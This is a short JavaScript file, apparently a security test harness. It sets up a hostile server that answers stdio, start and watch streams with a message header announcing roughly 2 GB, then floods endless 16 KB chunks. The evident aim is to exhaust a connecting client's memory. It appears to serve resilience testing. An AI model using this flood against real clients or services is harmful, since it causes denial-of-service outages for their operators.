import { attackHost } from './lib/attack.js';

const part = Buffer.alloc(16 * 1024);
const announced = Buffer.from('007fffffff', 'hex');

attackHost({
  answer(stream) {
    if (!/StreamStdio|StartStream|Watch/.test(stream.path)) return false;
    stream.begin();
    stream.flood((count) => (count === 0 ? announced : part));
    return true;
  },
});
